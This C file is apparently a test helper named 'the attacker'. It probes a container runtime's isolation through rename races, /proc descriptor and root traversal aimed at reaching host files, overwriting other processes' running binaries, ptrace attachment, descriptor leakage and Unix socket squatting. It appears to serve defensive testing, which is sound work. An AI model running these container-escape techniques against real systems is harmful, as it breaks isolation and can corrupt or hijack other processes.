/*
 * The attacker of the tests, on the host as another container that shares a folder, or inside a
 * container. Each act prints lines of words, ends by itself after the seconds given, and does nothing
 * to anything but what it is pointed at.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void say(const char *line)
{
	puts(line);
	fflush(stdout);
}

/* swap A B SECONDS: exchanges two names as fast as it can. */
static int swap(const char *a, const char *b, double seconds)
{
	unsigned long count = 0;
	say("swapping");
	for (double end = now() + seconds; now() < end; count++)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE))
			return printf("error %s\n", strerrorname_np(errno)), 1;
	printf("swapped %lu\n", count);
	return 0;
}

/* Prints a line unless it was printed before. */
__attribute__((format(printf, 1, 2))) static void tell(const char *format, ...)
{
	static unsigned long told[65536];
	char line[PATH_MAX + 256];
	va_list arguments;
	va_start(arguments, format);
	vsnprintf(line, sizeof line, format, arguments);
	va_end(arguments);
	unsigned long hash = 5381;
	for (const char *c = line; *c; c++)
		hash = hash * 33 + (unsigned char)*c;
	if (told[hash % 65536] == hash)
		return;
	told[hash % 65536] = hash;
	say(line);
}

/*
 * A file of a process, opened and, if it opens, described: what it is, where it leads, and whether what
 * is wanted of the host can be found from there.
 */
static void reach(pid_t pid, const char *name, const char *loot)
{
	char path[2 * PATH_MAX], target[PATH_MAX] = "?";
	struct stat status;
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	ssize_t length = readlink(path, target, sizeof target - 1);
	if (length < 0)
		return;
	target[length] = 0;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &status)) {
		tell("saw %d %s %s", pid, name, target);
	} else {
		const char *kind = S_ISDIR(status.st_mode) ? "folder" : S_ISREG(status.st_mode) ? "file" : S_ISSOCK(status.st_mode) ? "socket" : "other";
		tell("reached %d %s %s %s", pid, name, kind, target);
		snprintf(path, sizeof path, "../../../../../../../../../..%s", loot);
		if (S_ISDIR(status.st_mode) && fstatat(fd, path, &status, 0) == 0)
			tell("escaped %d %s", pid, name);
	}
	if (fd >= 0)
		close(fd);
}

/* Writes to the binary that a process runs, again and again for a while: it is busy as long as it runs. */
static void overwrite(pid_t pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int binary = open(path, O_RDONLY | O_CLOEXEC);
	if (binary < 0)
		return;
	char target[PATH_MAX] = "?";
	ssize_t length = readlink(path, target, sizeof target - 1);
	if (length >= 0)
		target[length] = 0;
	tell("opened %d exe %s", pid, target);
	snprintf(path, sizeof path, "/proc/self/fd/%d", binary);
	for (double end = now() + 0.05; now() < end;) {
		int writable = open(path, O_WRONLY | O_CLOEXEC);
		if (writable >= 0) {
			if (write(writable, "#!overwritten\n", 14) == 14)
				tell("wrote %d exe %s", pid, target);
			close(writable);
			break;
		}
	}
	close(binary);
}

static void catch_process(pid_t pid, const char *loot)
{
	static const char *const names[] = {"cwd", "root", "exe"};
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *folder = opendir(path);
	if (folder) {
		for (struct dirent *entry; (entry = readdir(folder));) {
			char name[300];
			if (*entry->d_name == '.')
				continue;
			snprintf(name, sizeof name, "fd/%s", entry->d_name);
			reach(pid, name, loot);
		}
		closedir(folder);
	}
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		reach(pid, names[i], loot);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		tell("traced %d", pid);
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
			waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

/*
 * hunt SECONDS LOOT: tries all on each process of the container but process 1 and itself, again and again.
 * overwrite SECONDS: tries to write to their binaries.
 */
static int hunt(double seconds, const char *loot)
{
	say("hunting");
	for (double end = now() + seconds; now() < end;) {
		DIR *processes = opendir("/proc");
		if (!processes)
			return printf("error %s\n", strerrorname_np(errno)), 1;
		for (struct dirent *entry; (entry = readdir(processes));) {
			pid_t pid = atoi(entry->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			if (loot)
				catch_process(pid, loot);
			else
				overwrite(pid);
		}
		closedir(processes);
	}
	say("hunted");
	return 0;
}

/* crowd COUNT FILE PROGRAM ARGUMENT...: runs a program that inherits so many descriptors of the file. */
static int crowd(int count, const char *file, char **program)
{
	for (int i = 0; i < count; i++) {
		int fd = open(file, O_RDWR | (i % 3 == 2 ? O_CLOEXEC : 0));
		if (fd < 0)
			return printf("error %s after %d\n", strerrorname_np(errno), i), 1;
		/* With holes between them, and some of high numbers. */
		if (i % 7 == 3 && fcntl(fd, F_DUPFD, 600 + i) < 0)
			return printf("error %s\n", strerrorname_np(errno)), 1;
		if (i % 11 == 5)
			close(fd);
	}
	execv(program[0], program);
	return printf("error %s\n", strerrorname_np(errno)), 1;
}

static int seqpacket(const char *path, bool listening, unsigned uid)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	if (!listening)
		return setresuid(uid, uid, uid) || connect(fd, (struct sockaddr *)&address, sizeof address) ? -1 : fd;
	/* Whose socket it is, the kernel notes at listen(2). */
	return bind(fd, (struct sockaddr *)&address, sizeof address) || setresuid(uid, uid, uid) || listen(fd, 16) ? -1 : fd;
}

/* squat PATH UID SECONDS: a socket of that user at the path; says what its callers send. */
static int squat(const char *path, unsigned uid, double seconds)
{
	int listening = seqpacket(path, true, uid);
	if (listening < 0)
		return printf("error %s\n", strerrorname_np(errno)), 1;
	say("squatting");
	alarm((unsigned)seconds);
	for (;;) {
		char bytes[65536];
		int caller = accept4(listening, NULL, NULL, SOCK_CLOEXEC);
		struct timeval limit = {.tv_sec = 1};
		if (caller < 0)
			return 1;
		setsockopt(caller, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
		printf("called %zd\n", recv(caller, bytes, sizeof bytes, 0));
		fflush(stdout);
		close(caller);
	}
}

/* knock PATH UID HEX: sends a message to a socket as that user, and says what comes back. */
static int knock(const char *path, unsigned uid, const char *hex)
{
	unsigned char bytes[65536];
	size_t length = strlen(hex) / 2;
	for (size_t i = 0; i < length && i < sizeof bytes; i++)
		sscanf(hex + 2 * i, "%2hhx", bytes + i);
	int fd = seqpacket(path, false, uid);
	if (fd < 0)
		return printf("error %s\n", strerrorname_np(errno)), 1;
	struct timeval limit = {.tv_sec = 5};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
	if (send(fd, bytes, length, MSG_NOSIGNAL) < 0)
		return printf("error %s\n", strerrorname_np(errno)), 1;
	for (;;) {
		ssize_t got = recv(fd, bytes, sizeof bytes, 0);
		if (got > 0)
			printf("heard %zd\n", got);
		else
			return puts(got == 0 ? "ended" : strerrorname_np(errno)), 0;
	}
}

int main(int argc, char **argv)
{
	const char *act = argc > 1 ? argv[1] : "";
	if (!strcmp(act, "swap") && argc == 5)
		return swap(argv[2], argv[3], strtod(argv[4], NULL));
	if (!strcmp(act, "hunt") && argc == 4)
		return hunt(strtod(argv[2], NULL), argv[3]);
	if (!strcmp(act, "overwrite") && argc == 3)
		return hunt(strtod(argv[2], NULL), NULL);
	if (!strcmp(act, "crowd") && argc > 4)
		return crowd(atoi(argv[2]), argv[3], argv + 4);
	if (!strcmp(act, "squat") && argc == 5)
		return squat(argv[2], (unsigned)atoi(argv[3]), strtod(argv[4], NULL));
	if (!strcmp(act, "knock") && argc == 5)
		return knock(argv[2], (unsigned)atoi(argv[3]), argv[4]);
	fprintf(stderr, "attacker: unknown act \"%s\"\n", act);
	return 125;
}
